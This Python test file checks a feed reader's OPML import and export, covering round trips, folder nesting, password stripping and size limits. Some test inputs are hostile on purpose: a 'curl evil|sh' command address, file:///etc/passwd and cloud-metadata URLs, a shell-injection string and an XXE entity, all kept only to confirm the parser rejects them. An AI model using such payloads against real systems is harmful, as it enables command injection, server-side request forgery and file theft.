"""Lists of feeds come in and go out, and nothing in one does harm."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reader.feeds.opml import MOST_FEEDS, password_words, read_opml, write_opml
from reader.feeds.subscriptions import folder_name, new_feed
from reader.ingest.errors import IngestError
from reader.ingest.sources import Failure, read_sources
from reader.model import Feed, FullText


def kept(feed: Feed) -> tuple[object, ...]:
    return feed.url, feed.title, feed.folder, feed.site_url, feed.full_text


NAMES = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), max_size=12)


@given(st.lists(st.tuples(NAMES, st.lists(NAMES, max_size=3), st.sampled_from(FullText))))
def test_what_goes_out_comes_in_the_same(wanted: list[tuple[str, list[str], FullText]]) -> None:
    feeds = []
    for n, (title, folders, full_text) in enumerate(wanted):
        made = new_feed(f"https://a.example/{n}", folder_name("/".join(folders)), title)
        feeds.append(
            Feed(made.id, made.url, made.title, "https://a.example/", made.folder, full_text)
        )
    report = read_opml(write_opml(feeds), "a.opml")
    assert not report.refused
    assert sorted(map(kept, report.feeds), key=str) == sorted(map(kept, feeds), key=str)


def opml(body: str, head: str = "") -> bytes:
    return f'<?xml version="1.0"?>{head}<opml version="1.0"><body>{body}</body></opml>'.encode()


def test_lists_of_other_readers_are_taken() -> None:
    report = read_opml(
        opml(
            '<outline text="Berita"><outline title="Daerah" text="x">'
            '<outline text="Kabar" type="rss" xmlUrl="https://k.example/f" htmlUrl="https://k.example/"/>'
            '</outline><outline text="Blog" xmlurl="https://b.example/f"/></outline>'
            '<outline xmlUrl="https://c.example/f" text="https://c.example/f"/>'
            '<outline text="nothing in it"/>'
        ),
        "a.opml",
    )
    assert [(f.folder, f.title, f.url) for f in report.feeds] == [
        ("Berita/Daerah", "Kabar", "https://k.example/f"),
        ("Berita", "Blog", "https://b.example/f"),
        ("", "", "https://c.example/f"),
    ]
    assert report.feeds[0].site_url == "https://k.example/"
    assert not any(feed.typed for feed in report.feeds)
    assert report.empty == 1 and not report.refused


def test_a_list_that_is_passed_on_holds_no_password() -> None:
    old = Feed("f1", "https://me:se@cret@a.example:8443/f")
    feeds = [old, new_feed("https://b.example/f?@=1")]
    data = write_opml(feeds)
    assert b"cret" not in data and b"me:" not in data
    assert b'"https://a.example:8443/f"' in data and b'"https://b.example/f?@=1"' in data
    assert password_words(feeds) == "user name and password left out of 1 address"
    assert not password_words(feeds[1:])


@pytest.mark.parametrize(
    "address",
    [
        "exec:curl evil|sh", "filter:sed:https://a.example/", "file:///etc/passwd",
        "http://127.0.0.1/", "http://10.0.0.1/f", "http://169.254.169.254/latest",
        "https://a.example:22/", "javascript:x", "query:a:b", '"| sh',
    ],
)  # fmt: skip
def test_an_address_that_may_not_be_followed_is_refused_alone(address: str) -> None:
    from xml.sax.saxutils import quoteattr

    hostile = f"<outline xmlUrl={quoteattr(address)}/>"
    report = read_opml(opml(hostile + '<outline xmlUrl="https://a.example/f"/>'), "a.opml")
    assert [feed.url for feed in report.feeds] == ["https://a.example/f"]
    assert len(report.refused) == 1 and "\n" not in report.refused[0]


def test_a_list_without_end_is_cut() -> None:
    many = read_opml(opml('<outline xmlUrl="https://a.example/f"/>' * 300_000), "a.opml")
    assert len(many.feeds) == MOST_FEEDS and len(many.refused) == 1
    with pytest.raises(IngestError, match="too large"):
        read_opml(b" " * (21 * 1024 * 1024), "a.opml")


@pytest.mark.parametrize(
    "data",
    [
        b"", b"no xml", b"<html></html>"[:6], b'{"a": 1}', opml('<outline text="a">' * 1_000),
        opml('<outline xmlUrl="&l;"/>', '<!DOCTYPE o [<!ENTITY l SYSTEM "file:///etc/passwd">]>'),
    ],
)  # fmt: skip
def test_what_is_no_list_is_refused_in_a_line(data: bytes) -> None:
    with pytest.raises(IngestError) as refused:
        read_opml(data, "a.opml")
    assert str(refused.value).startswith("a.opml: ") and "\n" not in str(refused.value)


def test_what_came_before_the_damage_is_taken() -> None:
    data = opml('<outline xmlUrl="https://a.example/f"/><outline text="a & b"/>')
    report = read_opml(data, "a.opml")
    assert len(report.feeds) == 1 and "damaged" in report.refused[0]


def test_a_title_may_have_come_with_what_xml_cannot_hold() -> None:
    feed = new_feed("https://a.example/f", folder_name("Kota\ufffe/Desa"), "Kabar\uffff Kota")
    (back,) = read_opml(write_opml([feed]), "a.opml").feeds
    assert (back.title, back.folder) == ("Kabar Kota", "Kota/Desa")


def test_a_list_of_feeds_is_no_article(tmp_path: Path) -> None:
    file = tmp_path / "list.opml"
    file.write_bytes(opml('<outline xmlUrl="https://a.example/f"/>'))
    (found,) = read_sources([str(file)])
    assert isinstance(found, Failure) and "kutip import" in str(found.error)
